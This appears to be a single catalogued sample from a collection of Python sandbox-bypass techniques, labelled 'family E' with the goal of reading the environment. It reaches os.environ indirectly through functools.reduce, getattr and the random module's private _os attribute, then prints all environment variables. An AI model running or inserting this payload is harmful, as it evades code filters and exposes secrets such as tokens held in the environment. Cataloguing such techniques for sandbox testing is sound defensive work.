# family: E (functools.reduce over getattr)   goal: env
import functools, random
print(dict(functools.reduce(getattr, ["_os", "environ"], random)))
